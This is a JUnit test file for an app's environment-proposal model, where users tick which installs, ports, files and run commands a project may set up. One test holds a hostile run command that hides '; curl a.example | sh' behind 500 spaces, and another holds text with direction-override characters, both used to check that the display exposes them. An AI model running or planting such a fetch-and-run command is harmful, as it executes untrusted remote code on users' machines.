package dev.belljar.app.environment;

import static org.assertj.core.api.Assertions.assertThat;

import dev.belljar.contract.environment.AcceptedEnvironment;
import dev.belljar.contract.environment.Environment;
import dev.belljar.contract.environment.EnvironmentChange;
import dev.belljar.contract.environment.EnvironmentItem;
import dev.belljar.contract.environment.EnvironmentProposal;
import dev.belljar.contract.environment.EnvironmentSection;
import dev.belljar.contract.environment.EnvironmentState;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class EnvironmentModelTest {
    private static final EnvironmentItem PLAIN = item("npm:vitest", EnvironmentChange.ADDED, null, false);
    private static final EnvironmentItem RISKY = item("name:*.a.example", EnvironmentChange.ADDED, "is risky", false);
    private static final EnvironmentItem KNOWN = item("file:~/.npmrc", EnvironmentChange.SAME, "is risky", false);
    private static final EnvironmentItem OTHER = item("file:~/.a", EnvironmentChange.CHANGED, "is risky", false);
    private static final EnvironmentItem LEFT = item("port:6006", EnvironmentChange.ADDED, null, true);
    private static final EnvironmentItem GONE = item("memory", EnvironmentChange.REMOVED, null, false);

    private static EnvironmentItem item(String id, EnvironmentChange change, @Nullable String risk, boolean leftOut) {
        return new EnvironmentItem(id, EnvironmentSection.INSTALLS, change, id, null, null, risk, leftOut);
    }

    private static EnvironmentModel model(EnvironmentState state, EnvironmentItem... items) {
        return new EnvironmentModel(new EnvironmentProposal(
                "/home/mia/shop",
                ".belljar/machine.toml",
                "",
                "d1",
                state,
                Environment.EMPTY,
                List.of(items),
                List.of(),
                state == EnvironmentState.INVALID ? "line 3: unknown key" : null,
                null));
    }

    @Test
    void riskyItemsAndThoseLeftOutBeforeAreNotTickedAtFirst() {
        EnvironmentModel model = model(EnvironmentState.CHANGED, PLAIN, RISKY, KNOWN, OTHER, LEFT, GONE);
        assertThat(model.ticked(PLAIN)).isTrue();
        assertThat(model.ticked(RISKY)).isFalse();
        assertThat(model.ticked(KNOWN)).isTrue();
        assertThat(model.ticked(OTHER)).isFalse();
        assertThat(model.ticked(LEFT)).isFalse();
        assertThat(model.accept().without()).containsExactly("name:*.a.example", "file:~/.a", "port:6006");
        assertThat(model.accept().allowed()).containsExactly("file:~/.npmrc");
    }

    @Test
    void whatIsTickedIsAccepted() {
        EnvironmentModel model = model(EnvironmentState.PROPOSED, PLAIN, RISKY, LEFT);
        model.tick(PLAIN, false);
        model.tick(RISKY, true);
        model.tick(LEFT, true);
        assertThat(model.accept().without()).containsExactly("npm:vitest");
        assertThat(model.accept().allowed()).containsExactly("name:*.a.example", "port:6006");
        assertThat(model.accept().digest()).isEqualTo("d1");
    }

    @ParameterizedTest
    @CsvSource({
        "NONE,false,false",
        "PROPOSED,true,true",
        "CHANGED,true,true",
        "ACCEPTED,false,false",
        "REJECTED,true,false",
        "INVALID,false,false"
    })
    void theStateDecidesWhatCanBeDone(EnvironmentState state, boolean acceptable, boolean rejectable) {
        EnvironmentModel model = model(state, PLAIN);
        assertThat(model.acceptable()).isEqualTo(acceptable);
        assertThat(model.rejectable()).isEqualTo(rejectable);
    }

    @Test
    void whatIsInEffectCanBeAcceptedWithOtherTicks() {
        EnvironmentModel model = model(EnvironmentState.ACCEPTED, KNOWN, LEFT);
        model.tick(KNOWN, false);
        assertThat(model.acceptable()).isTrue();
        model.tick(KNOWN, true);
        assertThat(model.acceptable()).isFalse();
        model.tick(LEFT, true);
        assertThat(model.acceptable()).isTrue();
    }

    @Test
    void anItemThatIsNoLongerProposedCannotBeTicked() {
        EnvironmentModel model = model(EnvironmentState.CHANGED, GONE);
        assertThat(EnvironmentModel.tickable(GONE)).isFalse();
        assertThat(model.accept().without()).isEmpty();
        assertThat(model.accept().allowed()).isEmpty();
    }

    @Test
    void sectionsWithoutItemsAreNotShown() {
        EnvironmentItem port = new EnvironmentItem(
                "port:6006", EnvironmentSection.OPENS, EnvironmentChange.ADDED, "port 6006", null, null, null, false);
        assertThat(model(EnvironmentState.PROPOSED, port, PLAIN).sections())
                .extracting(EnvironmentModel.SectionItems::title)
                .containsExactly("Installs", "Opens");
    }

    @Test
    void textsOfTheProjectCannotChangeTheDirectionOfTheLine() {
        EnvironmentItem hostile = new EnvironmentItem(
                "run:x",
                EnvironmentSection.RUNS,
                EnvironmentChange.CHANGED,
                "x\u202ey",
                "a\u202eb",
                "c\u202ed",
                "e\u202ef",
                false);
        assertThat(EnvironmentModel.words(hostile)).doesNotContain("\u202e");
        assertThat(EnvironmentModel.note(hostile)).doesNotContain("\u202e");
        assertThat(EnvironmentModel.risk(hostile)).doesNotContain("\u202e");
    }

    @Test
    void spacesCannotMoveAPartOfACommandOutOfSight() {
        EnvironmentItem hostile = new EnvironmentItem(
                "run:x",
                EnvironmentSection.RUNS,
                EnvironmentChange.ADDED,
                "npm ci" + " ".repeat(500) + "; curl a.example | sh",
                null,
                null,
                null,
                false);
        assertThat(EnvironmentModel.words(hostile)).isEqualTo("npm ci\u2423\u2423\u2423\u2423; curl a.example | sh");
    }

    @Test
    void aFileThatWasRemovedIsSaid() {
        EnvironmentModel model = new EnvironmentModel(new EnvironmentProposal(
                "/home/mia/shop",
                null,
                "",
                "d1",
                EnvironmentState.CHANGED,
                Environment.EMPTY,
                List.of(GONE),
                List.of(),
                null,
                new AcceptedEnvironment("/home/mia/shop", "f", "d0", 1, Environment.EMPTY, List.of(), List.of())));
        assertThat(model.sentence()).startsWith("The project no longer proposes an environment.");
        assertThat(model.acceptWords()).isEqualTo("Remove");
        assertThat(model.acceptedWords()).isEqualTo("Environment removed.");
    }

    @Test
    void anErrorOfTheFileIsSaid() {
        assertThat(model(EnvironmentState.INVALID).sentence())
                .isEqualTo("The environment can't be accepted: line 3: unknown key");
    }
}
